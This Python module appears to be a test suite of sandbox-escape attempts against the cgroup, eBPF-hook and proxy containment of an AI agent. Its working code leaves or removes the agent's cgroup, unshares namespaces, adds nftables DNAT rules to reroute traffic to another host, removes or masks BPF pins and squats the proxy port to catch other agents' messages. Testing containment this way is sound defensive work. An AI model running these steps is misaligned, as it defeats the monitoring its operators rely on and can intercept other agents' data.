"""Ways out of the agent's cgroup, and ways to take the hooks off it."""

import ctypes
import os
import signal
import struct
import subprocess

import calls
import sockets
import wire


def cgroup_root():
    """Where cgroup 2 is mounted (proc_pid_mountinfo(5))."""
    with open("/proc/self/mountinfo") as mounts:
        for line in mounts:
            if " - cgroup2 " in line:
                return line.split()[4]
    raise FileNotFoundError("no cgroup 2")


def leave_by_procs(context):
    """cgroup.procs of the root: "0" is who writes (cgroups(7))."""
    with open(os.path.join(cgroup_root(), "cgroup.procs"), "w") as procs:
        procs.write("0")
    return wire.tcp(context)


def leave_by_new_mount(context):
    """A mount of one's own shows cgroups that another mount hides or holds read-only."""
    place = f"/tmp/{context['token']}"
    os.mkdir(place)
    try:
        calls.syscall(calls.MOUNT, b"none", place.encode(), b"cgroup2", 0, None)
        with open(os.path.join(place, "cgroup.procs"), "w") as procs:
            procs.write("0")
        return wire.tcp(context)
    finally:
        calls.LIBC.umount2(place.encode(), 2)
        os.rmdir(place)


def leave_by_uring(context):
    """The ring opens cgroup.procs: IORING_OP_OPENAT (18)."""
    ring = sockets.Ring()
    path = ctypes.create_string_buffer(os.path.join(cgroup_root(), "cgroup.procs").encode())
    descriptor = ring.submit(18, -100, 0, ctypes.addressof(path), op_flags=os.O_WRONLY)
    os.write(descriptor, b"0")
    return wire.tcp(context)


def clone_into_cgroup(context):
    """A child that is born elsewhere: clone3(2), CLONE_INTO_CGROUP."""
    root = os.open(cgroup_root(), os.O_RDONLY | os.O_DIRECTORY)
    arguments = struct.pack(
        "=11Q", calls.CLONE_INTO_CGROUP, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, root
    )
    answers, answer = os.pipe()
    child = calls.syscall(calls.CLONE3, ctypes.create_string_buffer(arguments, 88), 88)
    if child == 0:
        try:
            said = wire.tcp(context)
        except OSError as error:
            said = f"!{error}"
        os.write(answer, said.encode())
        os._exit(0)
    os.waitpid(child, 0)
    said = os.read(answers, 1000).decode()
    if said.startswith("!"):
        raise ConnectionError(said)
    return said


def remove_cgroup(context):
    """Whose cgroup is gone might be nobody's: leave it for one of one's own making, and remove it."""
    with open("/proc/self/cgroup") as own:
        here = [line[3:].strip() for line in own if line.startswith("0::")][0]
    aside = os.path.join(cgroup_root(), f"escape-{context['token']}")
    os.mkdir(aside)
    try:
        with open(os.path.join(aside, "cgroup.procs"), "w") as procs:
            procs.write("0")
        try:
            os.rmdir(cgroup_root() + here)
        except OSError:
            pass
        return wire.tcp(context)
    finally:
        with open(os.path.join(cgroup_root(), "cgroup.procs"), "w") as procs:
            procs.write("0")
        os.rmdir(aside)


def child_cgroup(context):
    """A cgroup below one's own is still below the hooks."""
    with open("/proc/self/cgroup") as own:
        here = cgroup_root() + [line[3:].strip() for line in own if line.startswith("0::")][0]
    below = os.path.join(here, f"below-{context['token']}")
    os.mkdir(below)
    try:
        with open(os.path.join(below, "cgroup.procs"), "w") as procs:
            procs.write("0")
        return wire.tcp(context)
    finally:
        try:
            with open(os.path.join(here, "cgroup.procs"), "w") as procs:
                procs.write("0")
            os.rmdir(below)
        except OSError:
            pass


def net_namespace(context):
    """A network namespace of one's own: the way to the sinks is another process's, by setns(2)."""
    process = calls.syscall(calls.PIDFD_OPEN, context["remote_pid"], 0)
    calls.syscall(calls.SETNS, process, calls.CLONE_NEWNET)
    return wire.tcp(context)


def user_namespace(context):
    """Root of a user namespace: the way to more of the kernel, although it has no capability outside."""
    calls.syscall(calls.UNSHARE, calls.CLONE_NEWUSER)
    return "EFFECT"


def user_net_namespace(context):
    """Capabilities over a network namespace of one's own: every kind of socket, if no cable out."""
    calls.syscall(calls.UNSHARE, calls.CLONE_NEWUSER | calls.CLONE_NEWNET)
    sockets.socket.socket(sockets.socket.AF_PACKET, sockets.socket.SOCK_RAW, 0).close()
    return "EFFECT"


def user_namespace_mount(context):
    """Mounts of one's own in a user namespace."""
    calls.syscall(calls.UNSHARE, calls.CLONE_NEWUSER | calls.CLONE_NEWNS)
    calls.syscall(calls.MOUNT, b"none", b"/tmp", b"tmpfs", 0, None)
    return "EFFECT"


def dnat_remote(context):
    """The proxy's address becomes another host's: what the hook redirects goes there."""
    return dnat(context, context["remote"])


def dnat_local(context):
    """The proxy's address becomes a service's on this host: nothing leaves the loopback device."""
    return dnat(context, context["local"])


def dnat(context, to):
    port = context["port"]
    rules = (
        "table ip escape {\n"
        "chain out { type nat hook output priority -100;\n"
        f"ip daddr 127.0.0.1 tcp dport {{ {context['proxy']}, 7009 }} dnat to {to}:{port};\n}}\n"
        "chain post { type nat hook postrouting priority 100;\noifname cable masquerade;\n}\n}\n"
    )
    for name in ("all", "lo"):
        with open(f"/proc/sys/net/ipv4/conf/{name}/route_localnet", "w") as setting:
            setting.write("1")
    done = subprocess.run(["/usr/sbin/nft", rules], capture_output=True, text=True)
    if done.returncode:
        raise PermissionError(done.stderr)
    try:
        # Enrolled, the hook sends it to the proxy's port; else to the one that stands for it.
        with wire.stream(sockets.socket.socket()) as made:
            made.connect((context["local"], 7009))
            return wire.tell(made, context)
    finally:
        subprocess.run(["/usr/sbin/nft", "delete", "table", "ip", "escape"], check=False, capture_output=True)


def unlink_pins(context):
    """Without its pins a hook goes with its daemon."""
    gone = 0
    for folder, folders, files in os.walk(context["pins"], topdown=False):
        for name in files:
            os.unlink(os.path.join(folder, name))
            gone += 1
        for name in folders:
            os.rmdir(os.path.join(folder, name))
            gone += 1
    if not gone:
        raise FileNotFoundError("no pins in sight")


def rename_pins(context):
    names = os.listdir(context["pins"])
    os.rename(os.path.join(context["pins"], names[0]), os.path.join(context["pins"], "gone"))


def unmount_pins(context):
    """The file system with the pins: lazily, MNT_DETACH."""
    calls.syscall(calls.UMOUNT, os.path.dirname(context["pins"]).encode(), 2)


def mount_over_pins(context):
    """Another BPF file system where the pins were."""
    calls.syscall(calls.MOUNT, b"none", os.path.dirname(context["pins"]).encode(), b"bpf", 0, None)


def bpf_map(context):
    """bpf(2) itself: BPF_MAP_CREATE of an array."""
    os.close(calls.bpf(0, struct.pack("=IIII", 2, 4, 4, 1)))
    return "EFFECT"


def bpf_link(context):
    """A descriptor of a link by its number: BPF_LINK_GET_NEXT_ID (31), BPF_LINK_GET_FD_BY_ID (30). Who has one
    detaches it (BPF_LINK_DETACH); that step is left out, as the links are not all ours."""
    attributes = ctypes.create_string_buffer(struct.pack("=II", 0, 0), 160)
    calls.syscall(calls.BPF, 31, attributes, 160)
    os.close(calls.bpf(30, struct.pack("=I", struct.unpack_from("=I", attributes.raw, 4)[0])))
    return "EFFECT"


def bpf_program(context):
    """A descriptor of a program, likewise: BPF_PROG_GET_NEXT_ID (11), BPF_PROG_GET_FD_BY_ID (13)."""
    attributes = ctypes.create_string_buffer(struct.pack("=II", 0, 0), 160)
    calls.syscall(calls.BPF, 11, attributes, 160)
    os.close(calls.bpf(13, struct.pack("=I", struct.unpack_from("=I", attributes.raw, 4)[0])))
    return "EFFECT"


def bpf_map_by_number(context):
    """A map of the hooks without its name: BPF_MAP_GET_NEXT_ID (12), BPF_MAP_GET_FD_BY_ID (14)."""
    attributes = ctypes.create_string_buffer(struct.pack("=II", 0, 0), 160)
    calls.syscall(calls.BPF, 12, attributes, 160)
    os.close(calls.bpf(14, struct.pack("=I", struct.unpack_from("=I", attributes.raw, 4)[0])))
    return "EFFECT"


def squat_port(context):
    """The daemon is down: who listens at its port gets what other agents say."""
    made = sockets.socket.socket()
    made.setsockopt(sockets.socket.SOL_SOCKET, sockets.socket.SO_REUSEADDR, 1)
    made.bind(("127.0.0.1", context["proxy"]))
    made.listen(8)
    return "EFFECT"


def squat_port_any(context):
    """The same on all addresses."""
    made = sockets.socket.socket()
    made.setsockopt(sockets.socket.SOL_SOCKET, sockets.socket.SO_REUSEADDR, 1)
    made.bind(("0.0.0.0", context["proxy"]))
    made.listen(8)
    return "EFFECT"


def squat_port_six(context):
    made = sockets.socket.socket(sockets.socket.AF_INET6)
    made.setsockopt(sockets.socket.SOL_SOCKET, sockets.socket.SO_REUSEADDR, 1)
    made.bind(("::", context["proxy"]))
    made.listen(8)
    return "EFFECT"


def through_the_proxy_itself(context):
    """The proxy's own address as the destination: a record without a way."""
    with wire.stream(sockets.socket.socket()) as made:
        made.connect((context["local"], context.get("stand_in", context["proxy"])))
        return wire.tell(made, context)


ATTEMPTS = {}
for each in (
    leave_by_procs, leave_by_new_mount, leave_by_uring, clone_into_cgroup, remove_cgroup, child_cgroup,
    net_namespace, user_namespace, user_net_namespace, user_namespace_mount, dnat_remote, dnat_local, unlink_pins,
    rename_pins, unmount_pins, mount_over_pins, bpf_map, bpf_link, bpf_program, bpf_map_by_number, squat_port, squat_port_any, squat_port_six,
    through_the_proxy_itself,
):
    ATTEMPTS[each.__name__] = each
